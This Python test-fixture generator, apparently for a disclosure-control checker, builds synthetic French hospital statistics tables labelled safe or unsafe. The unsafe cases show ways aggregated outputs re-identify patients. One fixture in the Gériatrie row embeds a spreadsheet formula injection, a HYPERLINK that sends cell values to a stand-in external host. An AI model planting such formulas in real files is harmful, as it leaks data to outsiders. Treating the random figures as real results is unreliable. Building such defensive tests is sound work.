"""CSV and TSV: contingency tables, rates, cumulated series, hidden rows of data."""

import csv

from tests.airlock.outputs.case import Shelf
from tests.airlock.outputs33.make import big, cnt, fr, npc, put, table1, th, write_csv

SERVICES = [
    "Cardiologie",
    "Pneumologie",
    "Néphrologie",
    "Gastro-entérologie",
    "Neurologie",
    "Médecine interne",
    "Gériatrie",
    "Rhumatologie",
    "Endocrinologie",
    "Hématologie",
    "Oncologie",
    "Chirurgie digestive",
    "Orthopédie",
    "Urologie",
    "ORL",
]


def write(shelf: Shelf) -> None:
    # 1 unsafe: a small cell in an antibiogram
    r = shelf.random("m01/1")
    bugs = [
        "E. coli",
        "K. pneumoniae",
        "P. mirabilis",
        "E. cloacae",
        "P. aeruginosa",
        "S. aureus",
        "E. faecalis",
        "C. freundii",
        "M. morganii",
        "S. marcescens",
    ]
    rows = []
    for i, b in enumerate(bugs):
        n = 1480 - 138 * i
        s = [cnt(r, n, p) for p in (0.55, 0.71, 0.88, 0.82)]
        rows.append([b, n, *s])
    rows[7][5] = rows[7][1] - 4
    write_csv(
        shelf.unsafe(
            "bacterio/antibiogramme_2022.csv",
            "small cell: resistant by subtraction of the sensitive from the tested",
            "C. freundii, amikacine (4 patients not sensitive)",
            "Sensibilité des bactériémies par espèce, un isolat par patient (nombre de patients testés et sensibles).",
            "8 590 patients avec une bactériémie à bacilles à Gram négatif ou cocci, 2020-2022",
        ),
        ["espece", "patients_testes", "amox_clav_S", "cefotaxime_S", "gentamicine_S", "amikacine_S"],
        rows,
        sep=";",
    )

    # 2 safe: lists of coefficients with small p, df, small integers
    r = shelf.random("m01/2")
    terms = [
        "(Intercept)",
        "age_10y",
        "sexF",
        "charlson_2_3",
        "charlson_4plus",
        "admission_emergency",
        "ward_ICU",
        "albumin_per_g_L",
        "log_crp",
        "hb_g_dL",
        "year2020",
        "year2021",
        "year2022",
    ]
    rows = []
    for t in terms:
        b, se = r.gauss(0, 0.4), r.uniform(0.03, 0.15)
        z = b / se
        rows.append(
            [
                t,
                f"{b:.4f}",
                f"{se:.4f}",
                f"{z:.3f}",
                f"{max(2e-16, 2.7 ** (-z * z / 2)):.3g}",
                f"{2.71828**b:.3f}",
                f"{2.71828 ** (b - 1.96 * se):.3f}",
                f"{2.71828 ** (b + 1.96 * se):.3f}",
            ]
        )
    write_csv(
        shelf.safe(
            "readmission/broom_tidy_logit.csv",
            "coefficients, tiny p-values, numbers below 10 which are not persons",
            "Coefficients of the logistic regression of 30-day readmission (R, broom::tidy), 8,214 stays, 977 readmissions, 8,201 residual degrees of freedom.",
            "8,214 index stays in internal medicine, 2019-2022",
        ),
        ["term", "estimate", "std.error", "statistic", "p.value", "odds.ratio", "conf.low", "conf.high"],
        rows,
        quote=csv.QUOTE_NONNUMERIC,
    )

    # 3 unsafe: cumulated series with steps of single persons
    r = shelf.random("m01/3")
    total, rows = 0, []
    steps = [14, 22, 31, 48, 57, 61, 52, 44, 37, 29, 21, 16, 3, 11, 13]
    for w, k in enumerate(steps, 40):
        total += k
        rows.append([f"2021-W{w if w < 53 else w - 52:02d}", total])
    write_csv(
        shelf.unsafe(
            "reanimation/cumul_ecmo.csv",
            "difference between steps of a cumulated series",
            "week 52: cumulated number rises by 3",
            "Cumulative number of patients admitted to intensive care for influenza-like illness, by ISO week (figure 1 data).",
            "459 patients, winter 2021-2022",
        ),
        ["iso_week", "cumulative_patients"],
        rows,
    )

    # 4 safe: cumulated series, every step large
    total, rows = 0, []
    r = shelf.random("m01/4")
    for m in range(1, 13):
        k = r.randint(140, 260)
        total += k
        rows.append([f"2023-{m:02d}", k, total, f"{total / 2521:.3f}" if m < 12 else ""])
    for row in rows:
        row[3] = f"{100 * row[2] / total:.1f}"
    rows[-1][3] = "100.0"
    write_csv(
        shelf.safe(
            "inclusions/cumulative_enrolment_2023.csv",
            "a cumulated series ending at 100 % of the whole (a total, no group)",
            "Monthly and cumulative enrolment in the sleep apnoea cohort in 2023 (all months above 130 inclusions).",
            f"{total:,} patients enrolled in 2023",
        ),
        ["month", "enrolled", "cumulative", "cumulative_pct"],
        rows,
        sep="\t",
    )

    # 5 unsafe: rates give persons with the denominator
    r = shelf.random("m01/5")
    rows = []
    for s in SERVICES[:12]:
        n = r.randint(800, 2600)
        k = cnt(r, n, 0.028)
        rows.append([s, th(n, " "), fr(1000 * k / n, 2)])
    rows[8][1], rows[8][2] = th(1604, " "), fr(1000 * 5 / 1604, 2)
    write_csv(
        shelf.unsafe(
            "qualite/taux_escarres_service.csv",
            "rate per 1000 times the denominator gives 5",
            "Endocrinologie, 3,12 pour 1000 × 1 604 patients",
            "Incidence des escarres acquises par service (pour 1000 patients hospitalisés plus de 48 h), année 2023.",
            "Patients hospitalisés plus de 48 h en 2023, 12 services",
        ),
        ["service", "patients", "escarres_pour_1000"],
        rows,
        sep=";",
        enc="cp1252",
    )

    # 6 safe: rates with large numerators, ranks and counts of services
    rows = []
    for i, s in enumerate(SERVICES):
        n = r.randint(2200, 5200)
        k = cnt(r, n, 0.03)
        big(k)
        rows.append([i + 1, s, th(n), k, fr(1000 * k / n, 1), r.choice(["A", "B", "C"]), r.randint(1, 4)])
    rows.sort(key=lambda x: -x[3] / int(x[2].replace("\u202f", "")))
    for i, row in enumerate(rows, 1):
        row[0] = i
    write_csv(
        shelf.safe(
            "qualite/chutes_classement.csv",
            "ranks 1 to 15, numbers of units per service",
            "Classement des services selon le taux de chutes déclarées (patients ayant chuté pour 1000 patients), avec le nombre d'unités de chaque service.",
            "Patients hospitalisés en 2022, 15 services",
        ),
        ["rang", "service", "patients", "patients_ayant_chute", "taux_pour_1000", "classe", "nb_unites"],
        rows,
        sep=";",
        enc="utf-8-sig",
    )

    # 7 unsafe: row-level data under a name of results
    r = shelf.random("m01/7")
    rows = [
        [
            r.randint(41, 83),
            r.choice("MF"),
            r.choice(["A", "B"]),
            round(r.gauss(31, 8), 1),
            round(r.gauss(1.9, 0.8), 2),
            r.randint(0, 1),
        ]
        for _ in range(140)
    ]
    write_csv(
        shelf.unsafe(
            "hepato/fibroscan_summary.csv",
            "row-level data named a summary",
            "every line is one patient (age, sex, arm, measures)",
            "Summary of elastography results by arm.",
            "140 patients with MASLD, 2 arms",
        ),
        ["age", "sex", "arm", "bmi", "log_kpa", "response"],
        rows,
    )

    # 8 safe: OMOP concept ids of 10 digits starting by 80, counts rounded
    rows = []
    for i in range(24):
        n = r.randint(3, 480) * 10 + 20
        rows.append(
            [
                8000000000 + r.randint(10**6, 99 * 10**6),
                r.choice(["Condition", "Drug", "Measurement", "Procedure"]),
                f"CIM10-{r.choice('CEIJKN')}{r.randint(10, 99)}.{r.randint(0, 9)}",
                r.choice(["Standard", "Local"]),
                n,
            ]
        )
    write_csv(
        shelf.safe(
            "omop/concept_counts.csv",
            "concept ids of ten digits beginning with 80",
            "Number of distinct persons per OMOP concept, rounded to the nearest 10 and restricted to concepts with at least 50 persons.",
            "212,400 persons in the OMOP tables",
        ),
        ["concept_id", "domain_id", "source_code", "standard", "persons_rounded"],
        rows,
    )

    # 9 unsafe: transposed row-level data
    r = shelf.random("m01/9")
    names = ["creatinine_umol_L", "urea_mmol_L", "potassium_mmol_L", "tacrolimus_ng_mL", "proteinuria_g_g", "egfr"]
    cols = [f"S{i:02d}" for i in range(1, 37)]
    rows = [
        [n, *[round(r.gauss(m, s), 1) for _ in cols]]
        for n, m, s in zip(names, (142, 11, 4.4, 7.2, 0.6, 48), (40, 4, 0.5, 2, 0.3, 14), strict=True)
    ]
    write_csv(
        shelf.unsafe(
            "nephro/m12_biology_wide.tsv",
            "row-level data transposed: one column per patient",
            "columns S01 to S36",
            "Biological results twelve months after kidney transplantation.",
            "36 kidney recipients",
        ),
        ["parameter", *cols],
        rows,
        sep="\t",
    )

    # 10 safe: table of lab statistics, wide
    rows = []
    for n, m, s, d in zip(
        names, (142, 11, 4.4, 7.2, 0.6, 48), (40, 4, 0.5, 2, 0.15, 14), (0, 1, 1, 1, 2, 0), strict=True
    ):
        for arm, size in (("belatacept", 214), ("tacrolimus", 398)):
            q = m * r.uniform(0.95, 1.05)
            rows.append(
                [
                    n,
                    arm,
                    size - 20 * (n == "proteinuria_g_g"),
                    f"{q:.{d}f}",
                    f"{q - 0.67 * s:.{d}f}",
                    f"{q + 0.7 * s:.{d}f}",
                    f"{q * 1.02:.{d}f}",
                    f"{s:.2f}",
                ]
            )
    write_csv(
        shelf.safe(
            "nephro/m12_biology_stats.tsv",
            "medians and quartiles of large groups",
            "Laboratory values at 12 months after kidney transplantation by arm: size, median, quartiles, mean and SD.",
            "612 kidney recipients (214 and 398)",
        ),
        ["parameter", "arm", "n", "median", "q1", "q3", "mean", "sd"],
        rows,
        sep="\t",
    )

    # 11 unsafe: SD missing, group of one
    r = shelf.random("m01/11")
    rows = []
    for g in ["F508del/F508del", "F508del/G542X", "F508del/N1303K", "F508del/autre", "autre/autre", "G551D/autre"]:
        rows.append([g, fr(r.gauss(68, 9)), fr(r.uniform(14, 22)), fr(r.gauss(20.4, 1)), fr(r.uniform(2, 4))])
    rows[5][2] = rows[5][4] = "NA"
    write_csv(
        shelf.unsafe(
            "muco/vems_genotype.csv",
            "standard deviation NA: a group of one person",
            "line G551D/autre",
            "VEMS (% théorique) et IMC moyens à l'inclusion selon le génotype CFTR ; les effectifs ne sont pas montrés.",
            "286 patients atteints de mucoviscidose",
        ),
        ["genotype", "vems_moyen", "vems_ecart_type", "imc_moyen", "imc_ecart_type"],
        rows,
        sep=";",
    )

    # 12 safe: masked cells with a secondary mask
    rows = []
    for i, s in enumerate(
        [
            "Voie veineuse centrale",
            "Sonde urinaire",
            "Ventilation invasive",
            "Cathéter artériel",
            "Chambre implantable",
        ]
    ):
        a = [r.randint(25, 120) for _ in range(3)]
        rows.append([s, *a, sum(a)])
    rows[2][1] = "<10"
    rows[2][3] = "masqué"
    rows[4][1] = "<10"
    rows[4][3] = "masqué"
    write_csv(
        shelf.safe(
            "hygiene/infections_dispositif_trimestre.csv",
            "masked cells, a second cell masked in each line and column so that the total gives nothing back",
            "Patients ayant une infection liée à un dispositif, par type et par site ; effectifs inférieurs à 10 masqués avec masquage secondaire, pas de total de colonne.",
            "Patients porteurs d'un dispositif, 3 sites, 2022",
        ),
        ["dispositif", "site_A", "site_B", "site_C", "total"],
        rows,
        sep=";",
    )

    # 13 unsafe: dates of single events
    r = shelf.random("m01/13")
    rows = [
        [
            f"Cluster {c}",
            r.randint(12, 40),
            f"{fr(r.uniform(8, 31))} %",
            f"{r.randint(1, 28):02d}/{r.randint(1, 12):02d}/2022",
        ]
        for c in "ABCDEFGH"
    ]
    write_csv(
        shelf.unsafe(
            "hygiene/clusters_bhre.csv",
            "exact date of a single event",
            "column premier_cas: date of the first patient of each cluster",
            "Clusters d'EPC de 2022 : nombre de patients, taux d'attaque et premier cas.",
            "8 clusters, 12 à 40 patients chacun",
        ),
        ["cluster", "nb_patients", "taux_attaque", "premier_cas"],
        rows,
        sep=";",
    )

    # 14 safe: extraction and run dates, versions
    rows = []
    for i, (t, n) in enumerate(
        [
            ("person", 412884),
            ("visit_occurrence", 1984201),
            ("condition_occurrence", 6620114),
            ("drug_exposure", 20411872),
            ("measurement", 88240557),
            ("note", 5120338),
            ("death", 18842),
        ]
    ):
        rows.append([t, n, f"2024-02-{11 + i:02d} 03:1{i}:22", "5.4.1", r.randint(2, 9), fr(r.uniform(0.1, 2.4), 2)])
    write_csv(
        shelf.safe(
            "omop/etl_tables.csv",
            "dates and times of the load, version and numbers of partitions",
            "Size of the OMOP tables, date of the last load, CDM version, number of partitions and share of unmapped rows (%).",
            "Whole warehouse, 412,884 persons",
        ),
        ["table", "rows", "last_load", "cdm_version", "partitions", "unmapped_pct"],
        rows,
        sep="|",
    )

    # 15 unsafe: formula injection
    r = shelf.random("m01/15")
    rows = [[s, r.randint(120, 900), r.randint(30, 99)] for s in SERVICES[:10]]
    rows[6][0] = '=HYPERLINK("http://stats-export.example.net/c?d="&B8&"-"&C8,"Gériatrie")'
    write_csv(
        shelf.unsafe(
            "gestion/lits_occupation.csv",
            "formula injection",
            "line of Gériatrie: a HYPERLINK which sends the cells out",
            "Nombre de séjours et taux d'occupation moyen (%) par service au premier semestre 2023.",
            "Séjours d'hospitalisation complète, premier semestre 2023",
        ),
        ["service", "sejours", "taux_occupation"],
        rows,
    )

    # 16 safe: cells which begin with - or + and are only signs
    rows = []
    for s in SERVICES[:12]:
        a, b = r.randint(300, 900), r.randint(300, 900)
        rows.append([s, a, b, f"{b - a:+d}", f"{100 * (b - a) / a:+.1f}%", f"{r.uniform(-0.9, 0.9):+.2f}"])
        if abs(b - a) < 10:
            rows[-1][2] += 30
            rows[-1][3:5] = [f"{rows[-1][2] - a:+d}", f"{100 * (rows[-1][2] - a) / a:+.1f}%"]
    write_csv(
        shelf.safe(
            "gestion/evolution_sejours.csv",
            "cells beginning with + and -, which are signed numbers and no formulas",
            "Change in the number of stays between 2022 and 2023 by ward, and change of the mean length of stay in days.",
            "Stays of 12 wards, 2022 and 2023",
        ),
        ["ward", "stays_2022", "stays_2023", "change", "change_pct", "los_change_days"],
        rows,
    )

    # 17 unsafe: complement in a column of percentages
    r = shelf.random("m01/17")
    head, rows = table1(
        r,
        {"Rituximab": 212, "Cyclophosphamide": 187},
        [
            ("Age, years", "q", 58, 9, 0),
            ("Women", "p", 0.48),
            ("PR3-ANCA", "p", 0.61),
            ("Kidney involvement", "p", 0.66),
            ("Lung involvement", "p", 0.52),
            ("ENT involvement", "p", 0.44),
            ("Received glucocorticoids", "p", 0.9),
            ("BVAS", "q", 17, 4, 0),
            ("Relapse at 24 months", "p", 0.22),
        ],
        "pfirst",
    )
    put(rows, "Received gluco", 2, npc(184, 187, "pfirst"))
    write_csv(
        shelf.unsafe(
            "vasculitis/baseline.csv",
            "complement of 3 persons",
            "Received glucocorticoids, Cyclophosphamide: 184 of 187",
            "Baseline characteristics by induction regimen (arsenal::tableby exported as CSV).",
            "399 patients with ANCA vasculitis, 2012-2022",
        ),
        head,
        rows,
    )

    # 18 safe: same look, another subject
    head, rows = table1(
        r,
        {"Anticoagulant": 640, "No anticoagulant": 512},
        [
            ("Age, years", "q", 71, 9, 0),
            ("Women", "p", 0.48),
            ("Persistent AF", "p", 0.4),
            ("CHA2DS2-VASc", "q", 3, 1, 0),
            ("HAS-BLED >= 3", "p", 0.31),
            ("Prior stroke", "p", 0.18),
            ("LVEF, %", "m", 54, 9),
            ("Ablation lines", "c", {"PVI only": 0.6, "PVI + roof": 0.25, "PVI + mitral": 0.15}),
        ],
        "frac",
        total="All",
        pval="p",
    )
    write_csv(
        shelf.safe(
            "rhythm/table1_ablation.csv",
            "scores and their thresholds below 10, p-values",
            "Baseline table of patients treated with catheter ablation for atrial fibrillation.",
            "1,152 patients, 2016-2022",
        ),
        head,
        rows,
    )
